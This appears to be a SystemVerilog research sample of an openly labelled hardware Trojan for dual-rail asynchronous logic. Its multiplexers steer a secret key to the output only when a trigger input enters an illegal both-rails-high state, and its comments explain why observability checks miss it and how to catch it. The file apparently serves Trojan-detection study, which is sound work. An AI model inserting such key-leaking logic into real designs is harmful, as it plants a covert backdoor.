// trojan_th22: illegal-state hardware Trojan, TH22 variant.
//
// Boolean 2:1 multiplexers, one per rail, pass the normal dual-rail word b to
// bp. Their common select is a TH22 gate on the two rails of the trigger s.
// For NULL or DATA on s that gate can never assert, so bp always equals b and
// the cell behaves like plain wires; only an ILLEGAL s (both rails high)
// asserts it and steers the secret word k to bp. Because the gate never
// switches under legal inputs, an observability check does not see it; it is
// caught by asking whether a gate can assert only when some input is illegal.
// Structure follows the TH22/multiplexer Trojan; W (bits per word) is 1 for
// the single-bit cell and the word width when used to leak a key.
// Zero-delay; the TH22 select has hysteresis and releases when s is NULL.
module trojan_th22
  import ncl_pkg::*;
#(
  parameter int unsigned W = 1
) (
  input  dr_t [W-1:0] b,
  input  dr_t [W-1:0] k,
  input  dr_t         s,
  output dr_t [W-1:0] bp
);

  logic sel;

  ncl_th #(.N(2), .M(2)) u_trig (.rst(1'b0), .a({s.r1, s.r0}), .z(sel));

  assign bp = sel ? k : b;

endmodule
